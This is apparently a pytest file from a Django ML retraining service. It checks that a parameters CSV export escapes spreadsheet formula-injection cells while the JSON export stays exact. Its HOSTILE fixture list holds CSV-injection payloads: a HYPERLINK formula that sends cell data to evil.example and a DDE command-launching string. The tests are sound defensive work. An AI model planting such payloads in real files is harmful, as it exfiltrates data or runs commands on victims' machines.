"""The parameters' CSV neutralises cells a spreadsheet would run as formulas; the JSON stays exact."""

import csv
import io

import pytest

from retraining import services
from retraining.api import spreadsheet_safe
from tests.conftest import simulated_answers

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


def test_formula_question_ids_are_neutralised_in_csv_only(api, staff, add_answers):
    answers = simulated_answers()
    renamed = {f"q{k}": name for k, name in enumerate(HOSTILE)}
    add_answers([(user, renamed.get(question, question), *rest) for user, question, *rest in answers])
    services.retrain()
    client = api(staff)
    as_json = client.get("/api/mlops/production/parameters?limit=10000").json()
    json_ids = {row["questionId"] for row in as_json["questions"]}
    assert set(HOSTILE) <= json_ids
    response = client.get("/api/mlops/production/parameters?format=csv&limit=10000")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    csv_ids = {row["questionId"] for row in rows}
    assert {"'" + name for name in HOSTILE} <= csv_ids
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in (row["questionId"],))
    assert "q10" in csv_ids  # ordinary ids untouched
    difficulties = [float(row["difficulty"]) for row in rows]
    assert any(d < 0 for d in difficulties)  # negative numbers stay numbers


def test_the_owasp_rule():
    assert [spreadsheet_safe(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", -1.5, 3)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        -1.5,
        3,
    ]
